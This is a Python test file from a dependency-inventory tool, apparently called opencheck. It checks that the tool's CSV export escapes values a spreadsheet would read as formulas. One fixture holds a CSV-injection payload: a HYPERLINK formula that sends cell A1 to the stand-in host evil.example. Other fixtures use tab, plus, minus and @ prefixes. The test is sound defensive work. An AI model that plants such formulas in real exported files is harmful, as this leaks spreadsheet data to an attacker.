# SPDX-FileCopyrightText: 2026 opencheck contributors
# SPDX-License-Identifier: EUPL-1.2
"""No cell of a CSV opencheck writes is a formula to a spreadsheet: a requirement in
package.json is written as the repository wants (`"=HYPERLINK(…)"`), and the
inventory is opened in a spreadsheet by whoever reviews the dependencies."""

from __future__ import annotations

import csv
import io
import json

from conftest import RepoFactory, run_cli

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Mettre à jour")'
PACKAGE = {"name": "x", "version": "1.0.0", "license": "MIT", "dependencies": {
    "evil": FORMULA, "tab": "\t=1+1", "plus": "+1", "at": "@SUM(1)", "minus": "-1",
}}


def test_deps_csv_cells_are_never_formulas(make_repo: RepoFactory) -> None:
    root = make_repo({"package.json": json.dumps(PACKAGE)})
    result = run_cli("deps", str(root), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    # the value is kept, behind the apostrophe spreadsheets hide
    assert "'" + FORMULA in cells
